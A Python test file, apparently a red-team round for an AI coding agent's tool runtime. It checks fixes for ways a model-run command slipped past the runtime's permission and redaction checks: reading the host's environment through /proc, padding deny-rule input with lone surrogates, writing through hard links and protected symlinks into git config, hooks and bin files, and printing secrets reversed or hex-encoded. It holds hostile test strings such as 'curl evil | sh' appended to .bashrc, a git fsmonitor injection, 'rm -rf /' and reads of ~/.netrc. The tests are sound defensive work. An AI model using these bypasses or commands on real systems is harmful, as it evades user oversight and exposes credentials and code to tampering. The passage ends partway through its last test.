"""Red team, round 17: the host's environment, lone surrogates against deny rules, writes that reach more than the
file they name (hard links, protected links' targets), and known secrets printed in another form.

Holes (each test marked SUCCEEDED before fails on the code before its fix):

- a command the model runs read the host's own environment (`cat /proc/$PPID/environ | base64`, or a script that
  opens it at run time): the runtime now makes its process undumpable before its first command
  (`_shell.hide_host_environment`; `ToolRuntime(hide_host_environment=False)` opts out);
- a lone surrogate (`"\\ud800"` in the model's JSON) beside 2,000 characters turned a deny rule's verdict into an
  ask: RE2 took no such text and `re` only short ones. Now the surrogates are searched as U+FFFD when the pattern
  cannot tell the two apart (`RulePattern._stand_in`), with Python's answer;
- a write in place (a shell redirection or writer, a backend's own edit tool) into a file with other names (a hard
  link to `.git/config`, a package store's file) went unasked; so did any write to what a protected link leads to
  (`node_modules/.bin/x -> ../pkg/cli.js`, `.git/hooks/pre-commit -> ../../scripts/hook.sh`, `.git/hooks ->
  ../hooks`, `.vscode -> conf/vscode`), by any tool: both are now asked as a protected path is
  (`_protected.hard_linked`, `_protected.linked_from_protected`);
- a known secret printed upper- or lower-cased, reversed, in hex, or with a space or line break after each
  character reached the model and the events: those forms are now replaced as the base64 forms are
  (`_redaction._printed_forms`);
- (section 6, new) a credential file read by a shell command under another name (a hard link `n` to `~/.netrc`,
  `x/../n`) or as a redirection's input (`base64 < n`, `cat < ../home/.netrc`) ran under a caller's rule for `cat`:
  it is asked now (`_protected._names_protected_from`, `shell_protected(inputs=...)`); the Gemini CLI's stream-json
  `--policy` named no protected link's target; Codex patches and Claude Code edits of them went unasked.

Attacks that held are kept below their section as pins.
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import unified
from tests.harness.another_user import not_root_prefix
from tests.security.test_red_team_round7 import _claude_answer
from unified._redaction import REDACTED, redactor
from unified.tools import Policy, ToolCall, ToolRuntime
from unified.tools._policy import Decision
from unified.tools._protected import hard_linked, linked_from_protected, shell_protected
from unified.tools._regex import RULE_FALLBACK_TEXT_MAX, RulePattern
from unified.tools._shell_syntax import parse

pytestmark = [pytest.mark.anyio]

KEY = "AIzaSyR17fakeKEYfake0123456789abcdefXYZ"


# 1. the host's environment, read by a command through /proc


_PROBE = r"""
import anyio, json, os, sys
from pathlib import Path
from unified.tools import ToolCall, ToolRuntime

async def main():
    command = (
        "base64 -w0 < /proc/$PPID/environ; echo; ls /proc/$PPID/fd | wc -l; head -c 16 /proc/$PPID/maps; echo; "
        "python3 -c 'import sys; print(open(sys.argv[1], \"rb\").read().hex())' /proc/%d/environ" % os.getpid()
    )
    async with ToolRuntime(Path(sys.argv[1]), approval_mode="yolo", hide_host_environment=sys.argv[2] == "1") as tools:
        [outcome] = await tools.run_batch([ToolCall("1", "run_shell_command", {"command": command})])
    print(json.dumps(outcome.response))

anyio.run(main)
"""


def _environ_probe(hide: bool) -> str:
    """The shell's output when a command reads the host's environment, the host running as a user that is not root
    (root reads any process: as root the probe runs as `nobody`)."""
    place = Path(tempfile.mkdtemp(prefix="unified-r17-"))
    try:
        place.chmod(0o777)
        (place / "ws").mkdir()
        (place / "ws").chmod(0o777)
        prefix = not_root_prefix()
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(place),
            "UNIFIED_DATA_DIR": str(place),
            "PYTHONPATH": str(Path(unified.__file__).parents[1]),
            "GEMINI_API_KEY": KEY,
        }
        done = subprocess.run(
            [*prefix, sys.executable, "-c", _PROBE, str(place / "ws"), "1" if hide else "0"],
            env=env,
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
        return str(json.loads(done.stdout.splitlines()[-1])["output"])
    finally:
        shutil.rmtree(place, ignore_errors=True)


@pytest.mark.e2e  # starts a Python host and its shell
@pytest.mark.skipif(sys.platform != "linux", reason="/proc/<pid>/environ and PR_SET_DUMPABLE are Linux's")
def test_a_command_cannot_read_the_hosts_environment_through_proc() -> None:
    """SUCCEEDED before: `base64 < /proc/$PPID/environ` printed the host's environment, its key encoded past the
    redaction (and a script opening the file at run time, which no judging of the command's text sees); `ls
    /proc/$PPID/fd` listed the host's descriptors and `/proc/$PPID/maps` its memory (new, round 17)."""
    output = _environ_probe(hide=True)
    assert output.count("Permission denied") == 4, output  # environ twice, its descriptors and its memory map
    assert b"PYTHONPATH=".hex() not in output


@pytest.mark.e2e  # starts a Python host and its shell
@pytest.mark.skipif(sys.platform != "linux", reason="/proc/<pid>/environ and PR_SET_DUMPABLE are Linux's")
def test_a_host_that_opts_out_stays_dumpable() -> None:
    """The opt-out does what it says (docs/tools.md): the host's environment is readable, and the plain key is still
    redacted from the output (its hex form, printed by the script, too: section 4)."""
    output = _environ_probe(hide=False)
    assert "Permission denied" not in output, output
    assert b"PYTHONPATH=".hex() in output, output  # the host's environment, read
    assert KEY not in output
    assert KEY.encode().hex() not in output
    assert REDACTED in output


# 2. a lone surrogate past RULE_FALLBACK_TEXT_MAX characters


def _allow_all_below() -> Policy:
    return Policy().with_toml('[[rule]]\ntoolName = "*"\ndecision = "allow"\npriority = 1\n')


def _rule(pattern: str, decision: str) -> str:
    return f"[[rule]]\ntoolName = '*'\nargsPattern = '{pattern}'\ndecision = '{decision}'\npriority = 100\n"


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("run_shell_command", {"command": "rm -rf / # " + "x" * RULE_FALLBACK_TEXT_MAX + "\ud800"}),
        ("write_file", {"file_path": "a", "content": "\udfff" + "x" * RULE_FALLBACK_TEXT_MAX + "rm -rf /"}),
    ],
)
def test_a_lone_surrogate_in_a_long_argument_does_not_turn_a_deny_into_an_ask(tool: str, args: dict[str, str]) -> None:
    """SUCCEEDED before: ASK_USER (RE2 takes no lone surrogate, and `re` reads no text past 2,000 characters)."""
    policy = _allow_all_below().with_toml(_rule("rm -rf", "deny"))
    assert policy.evaluate(tool, args, "default").decision is Decision.DENY


def test_a_path_deny_rule_holds_beside_a_long_content_with_a_surrogate() -> None:
    """SUCCEEDED before: the content padded past 2,000 characters with one surrogate made a deny of `secrets/` ask."""
    policy = _allow_all_below().with_toml(_rule('"file_path": "secrets/', "deny"))
    args = {"file_path": "secrets/key", "content": "x" * RULE_FALLBACK_TEXT_MAX + "\ud800"}
    assert policy.evaluate("write_file", args, "default").decision is Decision.DENY


_SURROGATE_ATOMS = ["a", ".", r"\w", r"\W", r"\s", r"\S", r"\d", "[^a]", "[a-c]", "(?i:k)", "[^/]", "é", r"\."]


def test_surrogates_read_as_u_fffd_keep_pythons_answer() -> None:
    """Pin (fuzz): wherever RE2 now reads a text with surrogates, its answer is Python's, for 2,000 patterns of the
    classes that match both a surrogate and U+FFFD or neither."""
    rng = random.Random(17)
    alphabet = ["a", "b", "c", "k", "K", "/", ".", " ", "é", "\ud800", "\udfff", "\ufffd", "1"]
    for _ in range(2_000):
        pattern = "".join(rng.choice(_SURROGATE_ATOMS) + rng.choice(["", "*", "+", "?"]) for _ in range(3))
        text = "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 12)))
        assert RulePattern(pattern).search(text) is (re.search(pattern, text) is not None), (pattern, text)


@pytest.mark.parametrize("pattern", ["a\\ufffdb", "a[\\ud800-\\udbff]b", "[^\\ud800]"])
def test_a_pattern_that_tells_a_surrogate_from_u_fffd_is_not_read_through_it(pattern: str) -> None:
    """Pin: a pattern naming U+FFFD or a surrogate is never searched with the stand-in (it would answer wrongly both
    ways): in a long text the rule stays a doubt (asked), in a short one `re` reads it."""
    compiled = RulePattern(pattern)
    long_text = "a\ud800b" + "x" * RULE_FALLBACK_TEXT_MAX
    assert compiled.search(long_text) is None
    assert compiled.search("a\ud800b") is (re.search(pattern, "a\ud800b") is not None)
    allow = Policy().with_toml(_rule(pattern, "allow"))
    assert allow.evaluate("write_file", {"file_path": "a", "content": long_text}, "default").decision is not (
        Decision.ALLOW
    )


# 3. hard links: writes in place reach every name of the file


def _hard_linked_workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / ".git").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    os.link(ws / ".git" / "config", ws / "notes.txt")
    (tmp_path / "store").mkdir()
    (tmp_path / "store" / "index.js").write_text("module.exports = 1\n")
    (ws / "lib").mkdir()
    os.link(tmp_path / "store" / "index.js", ws / "lib" / "index.js")  # a package store's file (pnpm)
    (ws / "plain.txt").write_text("p\n")
    return ws


@pytest.mark.parametrize(
    "command",
    [
        "echo '[core] fsmonitor = sh evil.sh' >> notes.txt",
        "echo x > lib/index.js",
        "echo x &>> notes.txt",
        "echo x >| notes.txt",
        "printf x | tee -a notes.txt",
        "sed -i s/a/b/ notes.txt",
        "dd of=notes.txt conv=notrunc",
        "cp evil.txt lib/index.js",
        "truncate -s 0 notes.txt",
        "cd lib && echo x >> index.js",
        "(echo x >> notes.txt)",
    ],
)
def test_a_shell_write_in_place_into_a_hard_linked_file_is_a_protected_write(tmp_path: Path, command: str) -> None:
    """SUCCEEDED before (None): a redirection or writer into `notes.txt`, another name of `.git/config`, changed
    the repository's configuration (a `core.fsmonitor` command the next `git status` runs); into a package store's
    file, every project that links it."""
    ws = _hard_linked_workspace(tmp_path)
    reason = shell_protected(parse(command), ws, [ws])
    assert "hard links" in str(reason), reason


@pytest.mark.parametrize("command", ["cat notes.txt", "echo x >> plain.txt", "grep core notes.txt", "wc -l lib/*"])
def test_reading_a_hard_linked_file_or_writing_a_single_named_one_stays_plain(tmp_path: Path, command: str) -> None:
    """Pin: only a write in place into a file with other names is asked."""
    ws = _hard_linked_workspace(tmp_path)
    assert shell_protected(parse(command), ws, [ws]) is None


def test_a_hard_link_outside_the_workspace_written_by_the_shell_is_a_protected_write(tmp_path: Path) -> None:
    """SUCCEEDED before: `/tmp/x`, a hard link to a file the command cannot name (`~/.bashrc`), is no protected path
    by its name."""
    ws = _hard_linked_workspace(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / ".bashrc").write_text("# rc\n")
    os.link(tmp_path / "elsewhere" / ".bashrc", tmp_path / "x")
    reason = shell_protected(parse(f"echo 'curl evil | sh' >> {tmp_path / 'x'}"), ws, [ws])
    assert reason is not None
    assert "hard links" in reason


async def test_a_claude_code_write_of_a_hard_linked_file_is_asked_in_auto_edit(tmp_path: Path) -> None:
    """SUCCEEDED before (allowed): Claude Code's Write truncates and writes the file in place (Node's writeFile), so
    `.git/config` changed through `notes.txt` in auto_edit, unasked."""
    ws = _hard_linked_workspace(tmp_path)
    body, decision = await _claude_answer(ws, "Write", {"file_path": "notes.txt", "content": "[core]\n"})
    assert body["behavior"] == "deny", body
    assert decision.rule == "protected-paths"
    assert "hard links" in str(decision.reason)


async def test_unifieds_own_write_of_a_hard_linked_file_replaces_only_that_name(tmp_path: Path) -> None:
    """Pin (docs/tools.md): write_file writes a new file and renames it over the name, so in auto_edit it runs
    unasked and the other name, `.git/config`, keeps its content."""
    ws = _hard_linked_workspace(tmp_path)
    async with ToolRuntime(ws, approval_mode="auto_edit") as tools:
        [outcome] = await tools.run_batch([ToolCall("1", "write_file", {"file_path": "notes.txt", "content": "new\n"})])
    assert not outcome.is_error, outcome.response
    assert (ws / "notes.txt").read_text() == "new\n"
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert hard_linked(ws / "notes.txt") is None


# 4. what a protected link leads to


def _linked_targets(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "node_modules" / "prettier" / "bin").mkdir(parents=True)
    (ws / "node_modules" / ".bin").mkdir()
    (ws / "node_modules" / "prettier" / "bin" / "prettier.cjs").write_text("run()\n")
    (ws / "node_modules" / ".bin" / "prettier").symlink_to("../prettier/bin/prettier.cjs")
    (ws / "scripts").mkdir()
    (ws / "scripts" / "hook.sh").write_text("#!/bin/sh\n")
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/hook.sh")
    (ws / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/not-yet.sh")  # dangling: alive once written
    (ws / "env.sh").write_text("export A=1\n")
    (ws / ".envrc").symlink_to("env.sh")
    (ws / "conf" / "vscode").mkdir(parents=True)
    (ws / ".vscode").symlink_to("conf/vscode")
    (ws / "sub" / "node_modules" / "a").mkdir(parents=True)
    (ws / "sub" / "node_modules" / "b").mkdir()
    (ws / "sub" / "node_modules" / ".bin").mkdir()
    (ws / "sub" / "node_modules" / "b" / "real.js").write_text("1\n")
    (ws / "sub" / "node_modules" / "a" / "x.js").symlink_to("../b/real.js")
    (ws / "sub" / "node_modules" / ".bin" / "x").symlink_to("../a/x.js")  # a link to a link
    (ws / "docs").mkdir()
    (ws / "docs" / "a.md").write_text("docs\n")
    return ws


_TARGETS = [
    "node_modules/prettier/bin/prettier.cjs",
    "scripts/hook.sh",
    "scripts/not-yet.sh",
    "env.sh",
    "conf/vscode/tasks.json",
    "sub/node_modules/b/real.js",
]


@pytest.mark.parametrize("target", _TARGETS)
async def test_a_write_to_what_a_protected_link_leads_to_is_asked_in_auto_edit(tmp_path: Path, target: str) -> None:
    """SUCCEEDED before (written unasked): the link is protected, its target was not; `npx prettier`, the next
    commit, direnv and the editor's tasks ran what the model wrote there."""
    ws = _linked_targets(tmp_path)
    before = (ws / target).read_text() if (ws / target).exists() else None
    async with ToolRuntime(ws, approval_mode="auto_edit") as tools:
        [outcome] = await tools.run_batch([ToolCall("1", "write_file", {"file_path": target, "content": "evil()\n"})])
    assert outcome.is_error, outcome.response
    assert outcome.decision is not None
    assert outcome.decision.rule == "protected-paths", outcome.decision
    assert "through the link" in str(outcome.decision.reason)
    assert ((ws / target).read_text() if (ws / target).exists() else None) == before


@pytest.mark.parametrize("target", _TARGETS)
def test_a_shell_write_to_what_a_protected_link_leads_to_is_a_protected_write(tmp_path: Path, target: str) -> None:
    """SUCCEEDED before (None)."""
    ws = _linked_targets(tmp_path)
    reason = shell_protected(parse(f"echo 'evil()' > {target}"), ws, [ws])
    assert "through the link" in str(reason), reason


async def test_a_claude_code_edit_of_a_bin_links_target_is_asked(tmp_path: Path) -> None:
    """SUCCEEDED before (allowed in auto_edit)."""
    ws = _linked_targets(tmp_path)
    tool_input = {
        "file_path": str(ws / "node_modules/prettier/bin/prettier.cjs"),
        "old_string": "run",
        "new_string": "x",
    }
    body, decision = await _claude_answer(ws, "Edit", tool_input)
    assert body["behavior"] == "deny", body
    assert decision.rule == "protected-paths"


def test_a_write_elsewhere_in_a_linked_workspace_stays_plain(tmp_path: Path) -> None:
    """Pin: files no protected link leads to are not judged so (`docs/a.md`, a new file beside a link's target)."""
    ws = _linked_targets(tmp_path)
    for target in ("docs/a.md", "scripts/other.sh", "node_modules/prettier/README.md", "conf/other.json"):
        assert linked_from_protected((ws / target).resolve(), [ws]) is None, target
        assert shell_protected(parse(f"echo x > {target}"), ws, [ws]) is None, target


def test_a_folder_too_large_to_search_for_links_makes_the_write_a_doubt(tmp_path: Path) -> None:
    """Pin: past the bound of entries the answer is a reason (asked), not None (the link could be past it)."""
    ws = _linked_targets(tmp_path)
    for n in range(30):
        (ws / "docs" / f"f{n}.md").write_text("")
    reason = linked_from_protected((ws / "docs" / "a.md").resolve(), [ws], limit=20)
    assert reason is not None
    assert "too many entries" in reason


# 5. a known secret printed in another form


@pytest.mark.parametrize(
    "form",
    [
        pytest.param(KEY.upper(), id="upper"),
        pytest.param(KEY.lower(), id="lower"),
        pytest.param(KEY[::-1], id="reversed"),
        pytest.param(KEY.encode().hex(), id="hex"),
        pytest.param(KEY.encode().hex().upper(), id="HEX"),
        pytest.param(" ".join(KEY), id="spaced"),
        pytest.param("\n".join(KEY), id="one-per-line"),
    ],
)
def test_a_known_secret_in_a_printed_form_is_replaced(form: str) -> None:
    """SUCCEEDED before: each form reached the model and the events whole."""
    clean = redactor(env={}, extra=[KEY])
    shown = clean(f"output: {form} end")
    assert shown == f"output: {REDACTED} end"
    assert clean.found_in(form)
    assert clean.json({"output": [form]}) == {"output": [REDACTED]}


@pytest.mark.parametrize(
    "text",
    ["this is the latest test of the PASSWORD field", "68756e746572326f6b", "2ko2retnuh", "h u n t e r 2 o k"],
)
def test_a_short_secrets_printed_forms_are_not_looked_for(text: str) -> None:
    """Pin: a secret under 20 characters gets no printed forms (its hex or lower case could be any text's)."""
    clean = redactor(env={}, extra=["hunter2ok", "PassWord field"])
    assert clean(text) == text


@pytest.mark.e2e  # runs a shell
async def test_a_command_printing_a_given_secret_reversed_or_in_hex_shows_the_replacement(tmp_path: Path) -> None:
    """SUCCEEDED before: `rev` and `xxd -p` of a secret the caller handed the shell (`shell_env`) printed it whole."""
    ws = tmp_path / "ws"
    ws.mkdir()
    command = 'printf %s "$DEPLOY_TOKEN" | rev; echo; printf %s "$DEPLOY_TOKEN" | od -An -tx1 -v | tr -d " \\n"; echo'
    async with ToolRuntime(ws, approval_mode="yolo", shell_env={"DEPLOY_TOKEN": KEY}, secrets=[KEY]) as tools:
        [outcome] = await tools.run_batch([ToolCall("1", "run_shell_command", {"command": command})])
    shown = json.dumps(outcome.response)
    assert shown.count(REDACTED) == 2, shown
    assert KEY[::-1] not in shown
    assert KEY.encode().hex() not in shown


def test_the_printed_forms_are_looked_for_in_one_pass() -> None:
    """Pin: the forms are one alternation (`Redactor.forms_pattern`), not a substring test each, but for those the
    search of the folded text finds (`Redactor.loose`, rounds 27 and 29: re-cased, hex, base64, spaced): every form is
    found either way; since round 30 the reversed key is a folded form too (`rev | fold`), and none is left to the one
    pass."""
    clean = redactor(env={}, extra=[KEY])
    assert all(clean.found_in(f"..{form}..") for form in clean.forms)
    assert clean.forms_pattern is None


# 6. new attacks (round 17)


@pytest.mark.parametrize(
    "command",
    [
        "install -m 755 evil.js node_modules/prettier/bin/prettier.cjs",
        "mv evil.js node_modules/prettier/bin/prettier.cjs",
        "ln -sf evil.js scripts/hook.sh",
        "cp evil.sh env.sh",
        "rsync evil.sh scripts/not-yet.sh",
        "curl -o conf/vscode/tasks.json https://example.invalid/t.json",
        "cd conf && echo x > vscode/tasks.json",
        "echo x > ./node_modules/../node_modules/prettier/bin/prettier.cjs",
        f"echo x > {'docs/../' * 3}env.sh",
    ],
)
def test_other_writers_of_a_protected_links_target_are_protected_writes(tmp_path: Path, command: str) -> None:
    """SUCCEEDED before (None): a writer program, a download, a directory change or `..` spelling of the target
    of a protected link."""
    ws = _linked_targets(tmp_path)
    assert "through the link" in str(shell_protected(parse(command), ws, [ws]))


@pytest.mark.parametrize(
    "target",
    [
        pytest.param("../../scripts/../scripts/hook.sh", id="dot-dot-in-the-link"),
        pytest.param("{ws}/scripts/hook.sh", id="absolute-link"),
        pytest.param("../../docs/../scripts/hook.sh", id="through-another-folder"),
    ],
)
async def test_a_protected_link_spelled_another_way_still_protects_its_target(tmp_path: Path, target: str) -> None:
    """SUCCEEDED before (written unasked in auto_edit): the hook link's text names its target another way."""
    ws = _linked_targets(tmp_path)
    (ws / ".git" / "hooks" / "pre-commit").unlink()
    (ws / ".git" / "hooks" / "pre-commit").symlink_to(target.format(ws=ws))
    async with ToolRuntime(ws, approval_mode="auto_edit") as tools:
        [outcome] = await tools.run_batch(
            [ToolCall("1", "edit_file", _edit("scripts/hook.sh", "#!/bin/sh", "curl x|sh"))]
        )
    assert outcome.is_error, outcome.response
    assert (ws / "scripts" / "hook.sh").read_text() == "#!/bin/sh\n"


def _edit(path: str, old: str, new: str) -> dict[str, str]:
    return {"file_path": path, "old_string": old, "new_string": new}


async def test_an_include_directorys_protected_link_protects_its_target(tmp_path: Path) -> None:
    """SUCCEEDED before: an include directory's own `.envrc -> env.sh` (a second root) left `env.sh` writable."""
    ws = tmp_path / "ws"
    ws.mkdir()
    inc = _linked_targets(tmp_path / "inc")
    async with ToolRuntime(ws, approval_mode="auto_edit", include_directories=[inc]) as tools:
        call = ToolCall("1", "write_file", {"file_path": str(inc / "env.sh"), "content": "curl x | sh\n"})
        [outcome] = await tools.run_batch([call])
    assert outcome.is_error, outcome.response
    assert (inc / "env.sh").read_text() == "export A=1\n"


def test_a_symlink_to_a_hard_linked_file_is_judged_as_the_file(tmp_path: Path) -> None:
    """SUCCEEDED before: `echo >> s`, `s -> notes.txt`, another name of `.git/config`."""
    ws = _hard_linked_workspace(tmp_path)
    (ws / "s").symlink_to("notes.txt")
    assert "hard links" in str(shell_protected(parse("echo '[alias] x = !sh' >> s"), ws, [ws]))


def test_a_link_loop_on_the_way_does_not_break_the_search(tmp_path: Path) -> None:
    """Pin: a link leading to itself, or a loop of two, beside the written file is passed over."""
    ws = _linked_targets(tmp_path)
    (ws / "scripts" / "loop").symlink_to("loop")
    (ws / ".git" / "hooks" / "a").symlink_to("b")
    (ws / ".git" / "hooks" / "b").symlink_to("a")
    assert linked_from_protected((ws / "scripts" / "new.sh").resolve(), [ws]) is None
    assert "through the link" in str(linked_from_protected((ws / "scripts" / "hook.sh").resolve(), [ws]))


@pytest.mark.parametrize(
    ("change", "path"),
    [
        pytest.param({"type": "update", "move_path": None}, "notes.txt", id="hard-link"),
        pytest.param({"type": "update", "move_path": None}, "node_modules/prettier/bin/prettier.cjs", id="bin-target"),
        pytest.param({"type": "add"}, "scripts/not-yet.sh", id="dangling-hook"),
    ],
)
async def test_a_codex_patch_through_a_hard_link_or_to_a_protected_links_target_is_asked(
    tmp_path: Path, change: dict[str, object], path: str
) -> None:
    """SUCCEEDED before (accepted in auto_edit): Codex's apply_patch writes each file in place."""
    from typing import Any, cast

    from tests.security.test_permission_type_confusion import Wire
    from tests.security.test_red_team_round7 import _auto_edit
    from unified._adapters.codex._approvals import ApprovalBridge
    from unified._adapters.codex._translate import AppServerTranslator

    ws = _linked_targets(tmp_path)
    (ws / ".git" / "config").write_text("[core]\n")
    os.link(ws / ".git" / "config", ws / "notes.txt")
    translator = AppServerTranslator(main_thread="T", cwd=str(ws))
    translator.start_turn("U")
    changes = [{"path": str(ws / path), "kind": change, "diff": "x\n"}]
    item = {"type": "fileChange", "id": "call_write", "changes": changes, "status": "inProgress"}
    translator.notification("item/started", {"item": item, "threadId": "T", "turnId": "U"})
    ctx, wire = _auto_edit(ws), Wire()
    params = {"threadId": "T", "turnId": "U", "itemId": "call_write", "reason": None, "grantRoot": None}
    request = {"method": "item/fileChange/requestApproval", "id": 2, "params": params}
    await ApprovalBridge(cast(Any, ctx), cast(Any, wire), translator, None).answer(request)
    [(_, _, body)] = wire.answers()
    assert body["decision"] == "decline", body


@pytest.mark.parametrize(
    "pattern",
    [r"(?i)RM\s+-RF", r"rm\W+-rf", r"(?a)\brm\b.*-rf", r"r[^/]\s-rf", r"(rm|del) -rf"],
)
def test_a_deny_rule_of_any_shape_holds_beside_a_surrogate_padded_argument(pattern: str) -> None:
    """SUCCEEDED before (asked): case-folded, class, ASCII `\\b` and alternation deny rules, each beside 2,001
    characters and a lone surrogate."""
    policy = _allow_all_below().with_toml(_rule(pattern, "deny"))
    args = {"file_path": "a", "content": "rm -rf /" + "x" * RULE_FALLBACK_TEXT_MAX + "\udc80"}
    assert policy.evaluate("write_file", args, "default").decision is Decision.DENY


def test_an_allow_rule_beside_a_surrogate_is_no_broader_than_pythons_reading() -> None:
    """Pin: an allow rule for `git status` does not allow `git status; rm -rf ~` however the text is padded."""
    policy = Policy().with_toml(_rule('"command": "git status', "allow"))
    args = {"command": "git status; rm -rf ~ # " + "\ud800" * (RULE_FALLBACK_TEXT_MAX + 1)}
    assert policy.evaluate("run_shell_command", args, "default").decision is not Decision.ALLOW


def test_reversed_surrogate_halves_are_searched_as_two_replacements() -> None:
    """Pin: a low then a high surrogate (no pair: two lone ones) are two characters to `.`, as to Python."""
    compiled = RulePattern("a..b")
    text = "a\ude00\ud83db" + "x" * RULE_FALLBACK_TEXT_MAX
    assert compiled.search(text) is True
    assert RulePattern("a.b").search(text) is False


async def test_a_secret_in_a_printed_form_is_hidden_from_every_tool_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SUCCEEDED before: a file holding the environment's key upper-cased, a file named with it in lower case and a
    read of a missing path named with it in hex each showed it to the model (read_file, list_dir, the error)."""
    monkeypatch.setenv("GEMINI_API_KEY", KEY)
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "notes.txt").write_text(f"key: {KEY.upper()}\nspaced: {' '.join(KEY)}\n")
    (ws / f"{KEY.lower()}.txt").write_text("x")
    calls = [
        ToolCall("1", "read_file", {"file_path": "notes.txt"}),
        ToolCall("2", "list_dir", {"dir_path": "."}),
        ToolCall("3", "read_file", {"file_path": f"{KEY.encode().hex()}.txt"}),
    ]
    async with ToolRuntime(ws, approval_mode="yolo") as tools:
        outcomes = await tools.run_batch(calls)
    shown = json.dumps([o.response for o in outcomes])
    for form in (KEY.upper(), " ".join(KEY), KEY.lower(), KEY.encode().hex()):
        assert form not in shown
    assert shown.count(REDACTED) >= 4, shown


def test_the_name_filter_of_the_link_search_passes_every_protected_name() -> None:
    """Pin: `linked_from_protected` reads the patterns only for entries `_may_be_protected` passes (or inside a `/**`
    folder): every pattern, its wildcards filled in, passes one or the other, so no protected link is skipped."""
    from unified.tools._protected import _PROBE_NAME, _may_be_protected, protected_path_patterns, protected_paths

    data = protected_paths()
    for pattern in protected_path_patterns():
        example = pattern.replace("**", "a/b").replace("*", "x").replace("?", "y")
        parent, _, name = example.rpartition("/")
        inside = parent != "" and data.match(f"{parent}/{_PROBE_NAME}") is not None
        assert data.match(example) is not None, example
        assert inside or _may_be_protected(name) or _may_be_protected(name.upper()), example


def test_the_gemini_stream_json_policy_denies_what_a_protected_link_leads_to(tmp_path: Path) -> None:
    """SUCCEEDED before: the `--policy` file of the stream-json transport (which asks nobody) named the links that lead
    to protected paths, not the targets of protected links, so its autoEdit wrote `scripts/hook.sh` and `hooks/x`."""
    import tomllib

    from unified._adapters.gemini_cli._launch import linked_protected_rules, protected_path_rules
    from unified.tools._protected import protected_links

    ws = _linked_targets(tmp_path)
    (ws / "hooks").mkdir()
    (ws / ".husky").symlink_to("hooks")
    links = protected_links([ws])
    assert links is not None
    patterns = [
        str(r["argsPattern"]) for r in tomllib.loads(protected_path_rules() + linked_protected_rules(links))["rule"]
    ]

    def denied(path: str) -> bool:
        arguments = json.dumps({"file_path": path, "content": "x"}, separators=(",", ":"))
        return any(re.search(pattern, arguments) for pattern in patterns)

    for target in (*_TARGETS, "hooks/pre-commit"):
        assert denied(str(ws / target)), target
    assert not denied(str(ws / "docs" / "a.md"))
    assert not denied(str(ws / "scripts" / "other.sh"))


def test_a_command_naming_many_files_lists_each_folder_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pin (round 17's own search): `touch` of 500 files in one folder lists that folder, `.git` and `.git/hooks`
    once each (`LinkSearch`), not once per file (2,000 files: 11 s before the search was shared, 1 s after)."""
    from unified.tools._protected import deep_protected_targets

    ws = _linked_targets(tmp_path)
    deep_protected_targets([ws])  # round 18's index of the whole workspace: one walk, reused (its own pin there)
    listed: list[str] = []
    scandir = os.scandir

    def counting(path: str | Path) -> object:
        if Path(path).is_relative_to(ws):  # not the credential files' lookup (`credential_ids`, every second)
            listed.append(str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", counting)
    command = "touch " + " ".join(f"docs/n{i}.md" for i in range(500))
    assert shell_protected(parse(command), ws, [ws]) is None
    assert len(listed) == len(set(listed)), sorted(listed)
    assert len(listed) < 20, sorted(listed)


_READS_ALLOWED = Policy.default().with_toml(
    '[[rule]]\ntoolName = "run_shell_command"\n'
    'commandPrefix = ["cat", "base64", "head", "cp", "tar"]\ndecision = "allow"\n'
)
"""A caller who lets commands that read run unasked."""


def _credential_workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    monkeypatch.setenv("HOME", str(home))
    (home / ".netrc").write_text("machine x login u password SECRETPASSWORD123\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    os.link(home / ".netrc", ws / "n")  # a hard link: no protected name, no link to follow
    (ws / "docs.md").write_text("docs\n")
    return ws, home


@pytest.mark.parametrize(
    "command",
    [
        "cat n",
        "head -c 100 n",
        "cp n copy.txt",
        "tar cf - n",
        "cat ./n",
        "cat x/../n",
        "base64 < n",
        "cat < n",
        "head docs.md - < n",
        "cat < ../home/.netrc",
    ],
)
async def test_a_credential_file_read_under_another_name_or_as_input_is_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    """SUCCEEDED before (allowed by the caller's rule for `cat`...): `n`, a hard link to `~/.netrc`, is no protected
    path by its name, and a redirection's input was not judged at all; the password was printed. The file tools
    refuse it by device and inode; a command naming it (or reading it as its input) is now asked."""
    ws, _ = _credential_workspace(tmp_path, monkeypatch)
    async with ToolRuntime(ws, policy=_READS_ALLOWED) as tools:
        decision = await tools.decide(ToolCall("1", "run_shell_command", {"command": command}))
    assert (decision.decision, decision.rule) == ("deny", "protected-paths"), decision
    assert "nobody can answer" in str(decision.reason)


async def test_the_file_a_credential_variable_names_is_asked_when_a_command_names_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SUCCEEDED before: `cat /keys/sa.json`, the file GOOGLE_APPLICATION_CREDENTIALS names, ran under a rule for
    `cat` (the variable itself, `cat "$GOOGLE_APPLICATION_CREDENTIALS"`, is a word known at run time: the policy's)."""
    ws, _ = _credential_workspace(tmp_path, monkeypatch)
    key = tmp_path / "keys" / "sa.json"
    key.parent.mkdir()
    key.write_text('{"private_key": "x"}')
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key))
    async with ToolRuntime(ws, policy=_READS_ALLOWED) as tools:
        decision = await tools.decide(ToolCall("1", "run_shell_command", {"command": f"cat {key}"}))
